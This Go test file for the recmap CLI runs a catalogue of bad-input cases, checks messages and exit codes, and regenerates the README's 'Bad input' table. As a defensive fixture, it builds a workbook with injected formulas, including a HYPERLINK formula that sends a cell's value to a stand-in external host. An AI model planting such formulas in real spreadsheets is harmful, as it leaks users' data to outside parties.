package main

import (
	"bufio"
	"bytes"
	"context"
	"flag"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/recmap/recmap/index"
	"github.com/recmap/recmap/matrix"
	"github.com/recmap/recmap/sample"
	"github.com/recmap/recmap/workspace"
)

var update = flag.Bool("update", false, "rewrite the Bad input section of README.md from the messages seen")

// badCase is one line of testdata/bad/catalogue.txt.
type badCase struct {
	name, command string
	want          []string // fragments that must appear; "!x": x must not
	exit          int
	line          int
}

const catalogue = "../../testdata/bad/catalogue.txt"

func readCatalogue(t *testing.T) []badCase {
	t.Helper()
	f, err := os.Open(catalogue)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var cases []badCase
	sc := bufio.NewScanner(f)
	for n := 1; sc.Scan(); n++ {
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		f := strings.Split(line, " | ")
		if len(f) != 4 {
			t.Fatalf("%s:%d: want 4 fields separated by \" | \", got %d", catalogue, n, len(f))
		}
		code, err := strconv.Atoi(strings.TrimSpace(f[3]))
		if err != nil {
			t.Fatalf("%s:%d: exit code: %v", catalogue, n, err)
		}
		cases = append(cases, badCase{name: strings.TrimSpace(f[0]), command: strings.TrimSpace(f[1]),
			want: strings.Split(strings.TrimSpace(f[2]), " && "), exit: code, line: n})
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return cases
}

// splitArgs splits a command line on spaces; single quotes group words.
func splitArgs(s string) []string {
	var args []string
	var cur strings.Builder
	quoted, have := false, false
	for _, r := range s {
		switch {
		case r == '\'':
			quoted, have = !quoted, true
		case r == ' ' && !quoted:
			if have {
				args = append(args, cur.String())
				cur.Reset()
				have = false
			}
		default:
			cur.WriteRune(r)
			have = true
		}
	}
	if have {
		args = append(args, cur.String())
	}
	return args
}

// TestBadInput runs every case of the bad-input catalogue against one
// workspace holding the sample corpus, checking the message and the exit
// code, and that nothing panics.
func TestBadInput(t *testing.T) {
	if testing.Short() {
		t.Skip("ingests the sample corpus")
	}
	ctx := t.Context()
	tmp := t.TempDir()
	ws := filepath.Join(tmp, "ws")
	t.Setenv("RECMAP_DATA", ws)
	t.Setenv("RECMAP_TAXONOMY", "")
	bad, err := filepath.Abs("../../testdata/bad")
	if err != nil {
		t.Fatal(err)
	}
	setupWorkbooks(t, ctx, tmp)

	vars := strings.NewReplacer("$BAD", bad, "$TMP", tmp, "$LONGQUERY", strings.Repeat("a", index.MaxQueryLen+1))
	var rows []string
	for _, c := range readCatalogue(t) {
		args := splitArgs(vars.Replace(c.command))
		locked := len(args) > 0 && args[0] == "@locked"
		if locked {
			args = args[1:]
		}
		out, code := runCase(t, ctx, ws, args, locked)
		t.Run(c.name, func(t *testing.T) {
			if code != c.exit {
				t.Errorf("%s:%d: recmap %s: exit code %d, want %d\n%s", catalogue, c.line, c.command, code, c.exit, out)
			}
			for _, w := range c.want {
				if neg, ok := strings.CutPrefix(w, "!"); ok {
					if strings.Contains(out, neg) {
						t.Errorf("%s:%d: recmap %s: output contains %q, which it must not\n%s", catalogue, c.line, c.command, neg, out)
					}
				} else if !strings.Contains(out, w) {
					t.Errorf("%s:%d: recmap %s: output lacks %q\n%s", catalogue, c.line, c.command, w, out)
				}
			}
		})
		seen := userSees(out, c.want[0], bad, tmp)
		shown := strings.TrimPrefix(c.command, "@locked ")
		rows = append(rows, fmt.Sprintf("| %s | `recmap %s` | %s | %d |", c.name, mdEscape(shown), seen, code))
	}
	checkReadme(t, rows)
}

// runCase runs one command in process, turning a panic into a test failure.
func runCase(t *testing.T, ctx context.Context, ws string, args []string, locked bool) (out string, code int) {
	t.Helper()
	if locked {
		w, err := workspace.Open(ctx, ws, workspace.Options{})
		if err != nil {
			t.Fatalf("hold the workspace: %v", err)
		}
		defer w.Close()
	}
	var stdout, stderr bytes.Buffer
	defer func() {
		if p := recover(); p != nil {
			t.Errorf("recmap %s panicked: %v", strings.Join(args, " "), p)
			out, code = fmt.Sprint(p), -1
		}
	}()
	err := run(ctx, args, &stdout, &stderr)
	code = exitCode(err, &stderr)
	return stderr.String() + stdout.String(), code
}

// setupWorkbooks ingests and maps the sample corpus, exports
// $TMP/matrix.xlsx and makes the two edited workbooks of the catalogue.
func setupWorkbooks(t *testing.T, ctx context.Context, tmp string) {
	t.Helper()
	dir := filepath.Join(tmp, "sample")
	names := writeSample(t, dir)
	for _, args := range [][]string{
		append([]string{"ingest"}, names...),
		{"map"},
		{"export", filepath.Join(tmp, "matrix.xlsx")},
	} {
		var out bytes.Buffer
		if err := run(ctx, args, &out, &out); err != nil {
			t.Fatalf("recmap %s: %v\n%s", args[0], err, out.String())
		}
	}
	edit := func(name string, f func(*excelize.File, matrixLayout)) {
		x, err := excelize.OpenFile(filepath.Join(tmp, "matrix.xlsx"))
		if err != nil {
			t.Fatal(err)
		}
		defer x.Close()
		f(x, findLayout(t, x))
		if err := x.SaveAs(filepath.Join(tmp, name)); err != nil {
			t.Fatal(err)
		}
	}
	edit("formulas.xlsx", func(x *excelize.File, l matrixLayout) {
		x.SetCellFormula(matrix.SheetMatrix, l.cell(matrix.ColStatus, 0), `IF(1=1,"implemented","")`)
		x.SetCellFormula(matrix.SheetMatrix, l.cell(matrix.ColComments, 1), `HYPERLINK("http://example.invalid/?"&A1,"see")`)
	})
	edit("renamed-sheet.xlsx", func(x *excelize.File, _ matrixLayout) {
		if err := x.SetSheetName(matrix.SheetMatrix, "Matrix (edited)"); err != nil {
			t.Fatal(err)
		}
	})
}

// writeSample writes the embedded sample corpus into dir and returns the
// file names.
func writeSample(t testing.TB, dir string) []string {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, n := range sample.Files() {
		b, err := fs.ReadFile(sample.FS, "files/"+n)
		if err != nil {
			t.Fatal(err)
		}
		p := filepath.Join(dir, n)
		if err := os.WriteFile(p, b, 0o644); err != nil {
			t.Fatal(err)
		}
		names = append(names, p)
	}
	return names
}

// matrixLayout locates the header and first data rows of an exported
// Matrix sheet.
type matrixLayout struct {
	cols map[string]int // header → 1-based column
	rows []int          // 1-based rows with an ID, in order
}

func (l matrixLayout) cell(col string, i int) string {
	ref, _ := excelize.CoordinatesToCellName(l.cols[col], l.rows[i])
	return ref
}

func findLayout(t testing.TB, x *excelize.File) matrixLayout {
	t.Helper()
	rows, err := x.GetRows(matrix.SheetMatrix)
	if err != nil {
		t.Fatal(err)
	}
	l := matrixLayout{cols: map[string]int{}}
	header := -1
	for r, cells := range rows {
		if header < 0 {
			for c, v := range cells {
				if v == matrix.ColID {
					header = r
				}
				l.cols[v] = c + 1
			}
			if header < 0 {
				clear(l.cols)
			}
			continue
		}
		if id := l.cols[matrix.ColID]; id <= len(cells) && strings.Contains(cells[id-1], "#") {
			l.rows = append(l.rows, r+1)
		}
	}
	for _, c := range []string{matrix.ColID, matrix.ColStatus, matrix.ColComments} {
		if l.cols[c] == 0 {
			t.Fatalf("exported Matrix sheet has no %q column", c)
		}
	}
	if len(l.rows) < 2 {
		t.Fatalf("exported Matrix sheet has %d recommendation rows", len(l.rows))
	}
	return l
}

var (
	durationRE = regexp.MustCompile(`\b[0-9.]+(ns|µs|ms|s)\b`)
	pidRE      = regexp.MustCompile(`process [0-9]+: "[^"]*"`)
)

// userSees picks the line of out that carries the case's first fragment,
// and the "what to do" line after it, normalised for the README.
func userSees(out, want, bad, tmp string) string {
	out = strings.NewReplacer(bad, "testdata/bad", tmp+string(filepath.Separator), "").Replace(out)
	out = durationRE.ReplaceAllString(out, "…")
	out = pidRE.ReplaceAllString(out, `process 4242: "recmap serve"`)
	want = strings.TrimPrefix(want, "!")
	lines := strings.Split(out, "\n")
	var seen []string
	for i, l := range lines {
		if strings.Contains(l, want) {
			seen = append(seen, clipLine(strings.TrimSpace(l)))
			if i+1 < len(lines) && strings.Contains(lines[i+1], "what to do:") {
				seen = append(seen, strings.TrimSpace(lines[i+1]))
			}
			break
		}
	}
	if seen == nil {
		return "(nothing: see the test failure)"
	}
	for i := range seen {
		seen[i] = "`" + mdEscape(seen[i]) + "`"
	}
	return strings.Join(seen, "<br>")
}

func clipLine(s string) string {
	if r := []rune(s); len(r) > 320 {
		return string(r[:319]) + "…"
	}
	return s
}

func mdEscape(s string) string { return strings.ReplaceAll(s, "|", `\|`) }

const (
	readmePath  = "../../README.md"
	readmeBegin = "<!-- BEGIN bad-input: generated by 'go test ./cmd/recmap -run TestBadInput -update' from testdata/bad/catalogue.txt; do not edit by hand -->"
	readmeEnd   = "<!-- END bad-input -->"
)

// checkReadme compares the README's Bad input section with rows, or
// rewrites it with -update (adding it at the end when missing). Only the
// text between the markers is touched.
func checkReadme(t *testing.T, rows []string) {
	t.Helper()
	section := readmeBegin + "\n## Bad input\n\n" +
		"Documents come from outside, so recmap treats bad input as normal input: each case below gets a clear message that names the file " +
		"and says what to do, never a panic, and a batch goes on past it (exit code 3). Limits are raised with the flag the message names. " +
		"The cases live in `testdata/bad/` (`catalogue.txt` lists them; `go run ./testdata/bad/gen` writes the files) and " +
		"`go test ./cmd/recmap -run TestBadInput` runs every one.\n\n" +
		"| case | command | what the user sees | exit code |\n|---|---|---|---|\n" +
		strings.Join(rows, "\n") + "\n\n" +
		"Crash safety is tested the same way: `go test ./cmd/recmap -run TestKillLoop -v` SIGKILLs `recmap` children doing ingest, map, " +
		"decisions, import and export at random moments (120 times; `RECMAP_KILLS`, `RECMAP_KILL_SEED` to vary), and after each kill " +
		"requires `recmap check` to pass without `--repair` and every decision a child printed as saved to be in `recmap history`. " +
		"`.ci/run` also runs every fuzz target briefly and `go test -race` on the packages that share state.\n" +
		readmeEnd + "\n"
	old, err := os.ReadFile(readmePath)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	s := string(old)
	i, j := strings.Index(s, readmeBegin), strings.Index(s, readmeEnd)
	var next string
	switch {
	case i >= 0 && j > i:
		end := j + len(readmeEnd)
		if end < len(s) && s[end] == '\n' {
			end++
		}
		next = s[:i] + section + s[end:]
	case len(s) == 0:
		next = section
	default:
		next = strings.TrimRight(s, "\n") + "\n\n" + section
	}
	if next == s {
		return
	}
	if *update {
		if err := os.WriteFile(readmePath, []byte(next), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	if i < 0 {
		t.Logf("README.md has no Bad input section; run 'go test ./cmd/recmap -run TestBadInput -update' to add it")
		return
	}
	t.Errorf("README.md Bad input section is out of date: run 'go test ./cmd/recmap -run TestBadInput -update'")
}
